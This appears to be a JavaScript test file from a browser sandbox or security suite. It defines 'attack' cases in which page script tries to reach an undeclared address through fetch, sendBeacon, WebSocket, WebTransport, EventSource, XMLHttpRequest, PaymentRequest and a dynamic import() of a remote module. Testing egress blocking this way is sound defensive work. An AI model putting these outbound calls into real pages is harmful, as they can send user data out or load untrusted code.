// Requests by script to an address that was not declared.
{
  const { attack, out } = hostile;

  hostile.group("requests", "Requests by script");

  attack("fetch", "fetch()", ({ id }) => void fetch(out(id)).catch(() => {}));
  attack("fetch-no-cors", "fetch() without CORS", ({ id }) => void fetch(out(id), { mode: "no-cors" }).catch(() => {}));
  attack("fetch-keepalive", "fetch() that outlives the document", ({ id }) =>
    void fetch(out(id), { method: "POST", body: "x", keepalive: true, mode: "no-cors" }).catch(() => {}),
  );
  attack("fetch-later", "fetchLater()", ({ id }) => {
    /** @type {any} */ (self).fetchLater?.(out(id), { activateAfter: 0 });
  });
  attack("xhr", "XMLHttpRequest", ({ id }) => {
    const request = new XMLHttpRequest();
    request.open("GET", out(id));
    request.send();
  });
  attack("beacon", "navigator.sendBeacon()", ({ id }) => void navigator.sendBeacon(out(id), "x"));
  attack("websocket", "WebSocket", ({ id }) => void new WebSocket(out(id).replace("http", "ws")));
  attack("event-source", "EventSource", ({ id }) => void new EventSource(out(id)));
  attack("web-transport", "WebTransport", ({ id }) => {
    const transport = new /** @type {any} */ (self).WebTransport(out(id).replace("http:", "https:"));
    transport.ready.catch(() => {});
    transport.closed.catch(() => {});
  });
  attack("import", "import() of a module", ({ id }) => void import(`${out(id)}.js`).catch(() => {}));
  attack("payment", "A payment method's manifest", ({ id }) => {
    const request = new PaymentRequest([{ supportedMethods: out(id) }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } });
    return void request.canMakePayment().catch(() => {});
  });
}
